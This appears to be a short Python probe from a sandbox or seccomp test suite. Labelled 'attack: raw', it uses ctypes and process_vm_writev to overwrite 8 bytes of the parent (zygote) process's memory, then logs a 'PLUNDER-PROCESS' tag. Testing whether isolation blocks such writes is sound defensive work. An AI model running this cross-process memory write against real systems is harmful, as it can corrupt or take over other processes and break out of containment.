# attack: raw | writes into the memory of the zygote | without seccomp: said
import ctypes, os
class Piece(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
here = ctypes.create_string_buffer(8)
mine = Piece(ctypes.addressof(here), 8)
theirs = Piece(id(os), 8)
write = ctypes.CDLL(None).process_vm_writev
write(os.getppid(), ctypes.byref(mine), 1, ctypes.byref(theirs), 1, 0)
log("PLUNDER-PROCESS")
